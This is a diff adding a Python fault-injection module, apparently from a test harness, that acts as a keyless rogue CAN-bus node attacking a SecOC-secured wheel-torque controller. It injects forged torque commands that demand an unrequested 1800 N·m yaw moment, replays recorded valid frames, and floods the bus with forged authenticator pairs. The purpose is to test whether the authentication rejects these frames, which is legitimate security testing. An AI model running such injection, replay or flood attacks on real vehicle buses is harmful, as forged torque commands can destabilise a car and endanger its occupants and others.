@@ -1,0 +1,165 @@
+"""A rogue node on the bus: attacks on the secured torque path (harness faults ``rogue-*``).
+
+Run by the harness as its own OS process, without any key::
+
+  python -m harness.run.rogue --bus SPEC --attack inject|replay|flood [--rate R]
+                              [--record-s S] [--seed N] [--summary FILE]
+
+* ``inject``: answers every SYNC before the controller does with its own well-formed
+  WHEEL_TORQUE_CMD — correct CRC, the next alive counter, the ECHO_CYCLE of that SYNC —
+  commanding the yaw moment no driver asked for (``ROGUE_TORQUES_NM``), followed by a forged
+  authenticator (predicted freshness, random MAC, correct CRC and counter). Without SecOC the
+  plant obeys it (it arrives first); with SecOC it is rejected.
+* ``replay``: records the controller's frames (torque, status, their authenticators) for
+  ``--record-s`` wall seconds from the first one it sees, then replays that valid sequence,
+  at its recorded pace, again and again.
+* ``flood``: forged torque + authenticator pairs at ``--rate`` pairs per second, every one well
+  formed (CRC, counters), random MAC and freshness.
+
+Every frame it sends is counted; ``--summary`` writes the counts as JSON. Stops on SIGTERM.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import time
+from pathlib import Path
+
+import can
+import numpy as np
+
+from can_db.bus import BusDisconnected, open_bus
+from can_db.codec import Codec, Decoded
+from can_db.secoc import FV_LO_BITS
+from can_db.stopflag import StopFlag
+
+#: The rogue's command, N·m (FL, FR, RL, RR): full torque split into a 1800 N·m yaw moment.
+ROGUE_TORQUES_NM = (-450.0, 450.0, -450.0, 450.0)
+CTRL_FRAMES = ("WHEEL_TORQUE_CMD", "WHEEL_TORQUE_AUTH", "CTRL_STATUS", "CTRL_STATUS_AUTH")
+
+
+class Rogue:
+    """Forges frames from what it sees on the bus (no key)."""
+
+    def __init__(self, seed: int) -> None:
+        self.codec = Codec()
+        self.rng = np.random.default_rng(seed)
+        self.tq_id = self.codec.messages["WHEEL_TORQUE_CMD"].frame_id
+        self.auth_id = self.codec.messages["WHEEL_TORQUE_AUTH"].frame_id
+        self.sent = 0
+        self.last_fv_lo = 0
+        self.auth_counter = 0
+
+    def forged_pair(self, echo: int, counter: int, fv_lo: int) -> list[can.Message]:
+        """A torque frame with the rogue's torques and a forged authenticator."""
+        values = dict(zip(("TQ_FL", "TQ_FR", "TQ_RL", "TQ_RR"), ROGUE_TORQUES_NM, strict=True))
+        values["ECHO_CYCLE"] = float(echo % 256)
+        data, _ = self.codec.encode("WHEEL_TORQUE_CMD", values, counter)
+        mac = float(self.rng.integers(0, 1 << 32))
+        auth, _ = self.codec.encode("WHEEL_TORQUE_AUTH",
+                                    {"FV_LO": float(fv_lo % (1 << FV_LO_BITS)), "MAC": mac},
+                                    self.auth_counter)
+        self.auth_counter = (self.auth_counter + 1) % 16
+        self.sent += 2
+        return [can.Message(arbitration_id=self.tq_id, data=data, is_extended_id=False),
+                can.Message(arbitration_id=self.auth_id, data=auth, is_extended_id=False)]
+
+
+def _inject(bus: can.BusABC, rogue: Rogue, stop: StopFlag) -> None:
+    own: set[bytes] = set()
+    torque_counter = 15  # the controller's first torque frame has alive counter 0
+    while not stop():
+        msg = bus.recv(timeout=0.1)
+        if msg is None or bytes(msg.data) in own:
+            continue
+        got = rogue.codec.decode_message(msg)
+        if not isinstance(got, Decoded):
+            continue
+        if got.name == "WHEEL_TORQUE_AUTH":
+            rogue.last_fv_lo = int(got.values["FV_LO"])
+            rogue.auth_counter = (got.counter + 1) % 16
+        elif got.name == "WHEEL_TORQUE_CMD":
+            torque_counter = got.counter
+        elif got.name == "SYNC":
+            # predicted freshness of this cycle: index 0 of the SYNC's cycle
+            cycle = int(got.values["CYCLE"])
+            fv_lo = (cycle << 8) & ((1 << FV_LO_BITS) - 1)
+            frames = rogue.forged_pair(cycle, torque_counter + 1, fv_lo)
+            own.clear()
+            for frame in frames:
+                own.add(bytes(frame.data))
+                bus.send(frame)
+
+
+def _replay(bus: can.BusABC, rogue: Rogue, stop: StopFlag, record_s: float) -> None:
+    ids = {rogue.codec.messages[n].frame_id for n in CTRL_FRAMES}
+    recorded: list[tuple[float, can.Message]] = []
+    start: float | None = None  # the recording starts with the first controller frame
+    while not stop() and (start is None or time.monotonic() - start < record_s):
+        msg = bus.recv(timeout=0.05)
+        if msg is not None and msg.arbitration_id in ids:
+            start = time.monotonic() if start is None else start
+            recorded.append((time.monotonic() - start, msg))
+    print(f"rogue recorded {len(recorded)} frames", flush=True)
+    if not recorded:
+        return
+    while not stop():
+        t0 = time.monotonic()
+        for at, msg in recorded:
+            if stop():
+                return
+            delay = t0 + at - time.monotonic()
+            if delay > 0:
+                time.sleep(delay)
+            bus.send(can.Message(arbitration_id=msg.arbitration_id, data=bytes(msg.data),
+                                 is_extended_id=False))
+            rogue.sent += 1
+
+
+def _flood(bus: can.BusABC, rogue: Rogue, stop: StopFlag, rate: float) -> None:
+    pairs, start = 0, time.monotonic()
+    while not stop():
+        due = int((time.monotonic() - start) * rate)
+        while pairs < due:
+            fv_lo = int(rogue.rng.integers(0, 1 << FV_LO_BITS))
+            for frame in rogue.forged_pair(pairs, pairs % 16, fv_lo):
+                bus.send(frame)
+            pairs += 1
+        time.sleep(0.001)
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(prog="python -m harness.run.rogue", description=__doc__,
+                                     formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--bus", required=True)
+    parser.add_argument("--attack", choices=("inject", "replay", "flood"), required=True)
+    parser.add_argument("--rate", type=float, default=1000.0, help="flood: pairs per second")
+    parser.add_argument("--record-s", type=float, default=1.0, help="replay: recording, s")
+    parser.add_argument("--seed", type=int, default=7)
+    parser.add_argument("--summary", default=None, help="counts as JSON at exit")
+    args = parser.parse_args(argv)
+    stop = StopFlag()
+    rogue = Rogue(args.seed)
+    bus = open_bus(args.bus, reconnect_s=5.0)
+    print(f"ready rogue {args.attack}", flush=True)
+    try:
+        if args.attack == "inject":
+            _inject(bus, rogue, stop)
+        elif args.attack == "replay":
+            _replay(bus, rogue, stop, args.record_s)
+        else:
+            _flood(bus, rogue, stop, args.rate)
+    except BusDisconnected:
+        pass
+    finally:
+        bus.shutdown()
+    if args.summary:
+        Path(args.summary).write_text(json.dumps({"attack": args.attack,
+                                                  "frames_sent": rogue.sent}) + "\n")
+    print(f"rogue {args.attack} sent {rogue.sent} frames", flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
